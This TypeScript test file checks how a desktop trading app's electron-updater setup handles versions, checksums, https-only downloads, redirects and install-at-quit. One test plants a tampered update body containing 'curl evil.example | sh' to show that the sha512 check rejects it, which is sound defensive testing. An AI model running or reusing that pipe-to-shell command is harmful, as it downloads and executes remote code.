/** electron-updater itself, over real HTTP, on files that it really replaces. The AppImage is a shell script. */

import { createHash } from 'node:crypto';
import { existsSync, watch } from 'node:fs';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { temporaryFolder } from '../app/storage/testing/temporary-folder.ts';
import { LiveClock } from '../app/trading/testing/live-clock.ts';
import { quitCleanly } from './clean-quit.ts';
import { DialogStandIn, TradingStandIn } from './testing/desktop.ts';
import { ElectronNet } from './testing/electron-net.ts';
import { installAtQuit } from './update-at-quit.ts';
import { openUpdateLibrary } from './update-library.ts';
import { updatesInElectron } from './updates-in-electron.ts';
import { FIRST_LOOK_MS, type UpdateLibrary } from './updates.ts';

const SITE = 'https://releases.example/cryptopiggy';
const FILE = 'CryptoPiggy-0.2.0-linux-x86_64.AppImage';
const OLD = '#!/bin/sh\nexit 1\n';

let folder: string;
let server: Server;
let electron: ElectronNet;
/** What the release page serves, by path. */
let pages: Map<string, { readonly body: string; readonly redirect?: string }>;
let requested: string[];
let library: UpdateLibrary;

const installed = (): string => join(folder, 'CryptoPiggy.AppImage');
const ran = (): string => join(folder, 'ran');
/** Leaves a mark where it is run: whether the library only puts it in place, or starts it too. */
const newAppImage = (): string => `#!/bin/sh\necho "$APPIMAGE_EXIT_AFTER_INSTALL" > '${ran()}'\n`;

/** Publishes a version as electron-builder does. */
function publish(
  version: string,
  { body = newAppImage(), promised = newAppImage(), url = FILE } = {},
) {
  const sha512 = createHash('sha512').update(promised).digest('base64');
  const list = { version, files: [{ url, sha512, size: promised.length }], path: url, sha512 };
  // JSON is YAML.
  pages.set('/cryptopiggy/latest-linux.yml', { body: JSON.stringify(list) });
  pages.set('/cryptopiggy/latest-linux-arm64.yml', { body: JSON.stringify(list) });
  pages.set(`/cryptopiggy/${FILE}`, { body });
}

async function listen(): Promise<number> {
  server = createServer((request, response) => {
    const path = new URL(request.url ?? '', SITE).pathname;
    requested.push(path);
    const page = pages.get(path);
    if (page === undefined) response.writeHead(404).end();
    else if (page.redirect !== undefined)
      response.writeHead(302, { location: page.redirect }).end();
    else response.end(page.body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('It has no port.');
  return address.port;
}

/** Never runs out of patience. */
const wait = () => new Promise<void>(() => {});

async function downloads(): Promise<readonly string[]> {
  const pending = join(folder, 'cache', 'cryptopiggy-updater', 'pending');
  return existsSync(pending) ? readdir(pending) : [];
}

function watched(path: string, onFile: (name: string | null) => void): Disposable {
  const watcher = watch(path, (_event, name) => onFile(name));
  return { [Symbol.dispose]: () => watcher.close() };
}

const onLinux = describe.runIf(process.platform === 'linux');

beforeEach(async () => {
  folder = await temporaryFolder();
  pages = new Map();
  requested = [];
  await mkdir(join(folder, 'resources'));
  const source = `provider: generic\nurl: ${SITE}\nupdaterCacheDirName: cryptopiggy-updater\n`;
  await writeFile(join(folder, 'resources', 'app-update.yml'), source);
  await writeFile(installed(), OLD, { mode: 0o755 });
  process.env['APPIMAGE'] = installed();
  process.env['XDG_CACHE_HOME'] = join(folder, 'cache');
  Object.defineProperty(process, 'resourcesPath', {
    value: join(folder, 'resources'),
    configurable: true,
  });
  electron = new ElectronNet({ version: '0.1.0', userData: folder }, await listen());
  electron.install();
  library = await openUpdateLibrary({ platform: 'linux', app: electron.app, wait });
});

afterEach(() => {
  delete process.env['APPIMAGE'];
  delete process.env['XDG_CACHE_HOME'];
  Reflect.deleteProperty(process, 'resourcesPath');
  server.close();
});

onLinux('what electron-updater takes for an update', () => {
  it('is a newer version, downloaded and left alone', async () => {
    publish('0.2.0');
    expect(await library.check()).toBe('0.2.0');
    expect(requested).not.toContain(`/cryptopiggy/${FILE}`);
    await library.download();
    expect(await downloads()).toContain(FILE);
    expect(await readFile(installed(), 'utf8')).toBe(OLD);
    electron.app.emit('quit', {}, 0);
    expect(await readFile(installed(), 'utf8')).toBe(OLD);
  });

  it.each(['0.1.0', '0.0.9'])('is not %s: never back, never the same', async (version) => {
    publish(version);
    expect(await library.check()).toBeNull();
  });

  it('is not a file that differs from what was published', async () => {
    publish('0.2.0', { body: `${newAppImage()}curl evil.example | sh\n` });
    expect(await library.check()).toBe('0.2.0');
    await expect(library.download()).rejects.toThrow('sha512 checksum mismatch');
    expect(await downloads()).toEqual([]);
    await expect(library.install(true)).rejects.toThrow('No update filepath provided');
    expect(await readFile(installed(), 'utf8')).toBe(OLD);
  });

  it('is not a version without a checksum', async () => {
    pages.set('/cryptopiggy/latest-linux.yml', {
      body: JSON.stringify({ version: '0.2.0', files: [{ url: FILE }] }),
    });
    expect(await library.check()).toBe('0.2.0');
    await expect(library.download()).rejects.toThrow('checksum');
  });

  it('is nothing where there is no list', async () => {
    await expect(library.check()).rejects.toThrow('Cannot find channel');
  });
});

onLinux('the way to an update', () => {
  it('is https alone, whatever the list says', async () => {
    const url = `http://releases.example/cryptopiggy/${FILE}`;
    publish('0.2.0', { url });
    expect(await library.check()).toBe('0.2.0');
    await expect(library.download()).rejects.toThrow('ERR_BLOCKED_BY_CLIENT');
    expect(electron.asked).toContain(url);
    expect(requested).not.toContain(`/cryptopiggy/${FILE}`);
  });

  it('is https alone, wherever a redirect leads', async () => {
    publish('0.2.0');
    const redirect = 'http://releases.example/list.yml';
    pages.set('/cryptopiggy/latest-linux.yml', { body: '', redirect });
    await expect(library.check()).rejects.toThrow('ERR_BLOCKED_BY_CLIENT');
    expect(requested).not.toContain('/list.yml');
  });

  it('leads to the published release on GitHub, as installers have it built in', async () => {
    const source = 'provider: github\nowner: somebody\nrepo: cryptopiggy\nreleaseType: draft\n';
    await writeFile(join(folder, 'resources', 'app-update.yml'), source);
    publish('0.2.0');
    const releases = '/somebody/cryptopiggy/releases';
    const link = `<link href="https://github.com${releases}/tag/v0.2.0"/>`;
    pages.set(`${releases}.atom`, {
      body: `<feed><entry>${link}<title>0.2.0</title></entry></feed>`,
    });
    pages.set(`${releases}/latest`, { body: JSON.stringify({ tag_name: 'v0.2.0' }) });
    for (const file of ['latest-linux.yml', 'latest-linux-arm64.yml', FILE]) {
      const redirect = `https://objects.example/cryptopiggy/${file}`;
      pages.set(`${releases}/download/v0.2.0/${file}`, { body: '', redirect });
    }
    expect(await library.check()).toBe('0.2.0');
    await library.download();
    expect(electron.asked.at(-1)).toBe(`https://objects.example/cryptopiggy/${FILE}`);
    expect(new Set(electron.asked.map((url) => new URL(url).origin))).toEqual(
      new Set(['https://github.com', 'https://objects.example']),
    );
  });

  it('names no computer', async () => {
    const headers: unknown[] = [];
    server.on('request', (request) => headers.push(request.headers['x-user-staging-id']));
    publish('0.2.0');
    await library.check();
    expect(headers).toEqual(['none']);
  });
});

/** The app with the real library, an update downloaded, and its person gone. */
async function appWithUpdate() {
  publish('0.2.0');
  const trading = new TradingStandIn();
  const clock = new LiveClock(0);
  const ended = Promise.withResolvers<number>();
  const ready = Promise.withResolvers<void>();
  const logged: string[] = [];
  const updates = await updatesInElectron({
    app: electron.app,
    resources: join(folder, 'resources'),
    platform: 'linux',
    dataDir: folder,
    environment: process.env,
    controls: trading.controls,
    dialog: new DialogStandIn(),
    notify: () => ready.resolve(),
    clock: clock.run(),
    wait,
    log: (sentence) => {
      logged.push(sentence);
      if (sentence.includes('failed')) ready.reject(new Error(sentence));
    },
  });
  const quitting: Parameters<typeof installAtQuit>[1] = {
    app: { on: (event, listener) => electron.app.on(event, listener), exit: ended.resolve },
    mayQuit: () => Promise.resolve(true),
    close: () => Promise.resolve(),
  };
  const { signal } = new AbortController();
  quitCleanly({
    ...installAtQuit(updates, quitting, signal),
    onStay: () => {},
    wait,
    log: () => {},
  });
  await clock.advance(FIRST_LOOK_MS);
  await ready.promise;
  return { trading, updates, logged, ended: ended.promise };
}

onLinux('installing', () => {
  it('replaces the program and does not start it when the app is quit', async () => {
    const { ended } = await appWithUpdate();
    electron.app.emit('before-quit', { preventDefault: () => {} });
    expect(await ended).toBe(0);
    expect(await readFile(installed(), 'utf8')).toBe(newAppImage());
    expect((await readFile(ran(), 'utf8')).trim()).toBe('true');
    expect(electron.locksReleased).toBe(1);
  });

  it('replaces the program and starts it after a restart was asked for', async () => {
    const { updates, ended } = await appWithUpdate();
    const hasRun = Promise.withResolvers<void>();
    using _watcher = watched(folder, (file) => file === 'ran' && hasRun.resolve());
    updates?.restart();
    expect(await ended).toBe(0);
    expect(await readFile(installed(), 'utf8')).toBe(newAppImage());
    await hasRun.promise;
    expect((await readFile(ran(), 'utf8')).trim()).toBe('');
  });

  it('is held back while an order is open', async () => {
    const { trading, updates, ended } = await appWithUpdate();
    trading.becomes({ openOrders: 1 });
    updates?.restart();
    expect(await readFile(installed(), 'utf8')).toBe(OLD);
    electron.app.emit('before-quit', { preventDefault: () => {} });
    expect(await ended).toBe(0);
    expect(await readFile(installed(), 'utf8')).toBe(OLD);
    expect(await downloads()).toContain(FILE);
  });

  it('that fails starts the program as it was, where a restart was asked for', async () => {
    const { updates, logged, ended } = await appWithUpdate();
    const movedTo = join(folder, 'moved-away.AppImage');
    process.env['APPIMAGE'] = movedTo;
    updates?.restart();
    expect(await ended).toBe(0);
    expect(logged.at(-1)).toContain('The update could not be installed; this version stays.');
    expect(electron.relaunched).toEqual([{ execPath: movedTo }]);
  });

  it('that fails leaves the program as it was', async () => {
    publish('0.2.0');
    await library.check();
    await library.download();
    process.env['APPIMAGE'] = join(folder, 'moved-away.AppImage');
    await expect(library.install(true)).rejects.toThrow('ENOENT');
    expect(await readFile(installed(), 'utf8')).toBe(OLD);
  });

  it('gives up on an installer that does not begin', async () => {
    publish('0.2.0');
    const impatient = await openUpdateLibrary({
      platform: 'linux',
      app: { once: () => {}, releaseSingleInstanceLock: () => {} },
      wait: () => Promise.resolve(),
    });
    await impatient.check();
    await impatient.download();
    await expect(impatient.install(false)).rejects.toThrow('did not begin within 60 s');
  });
});
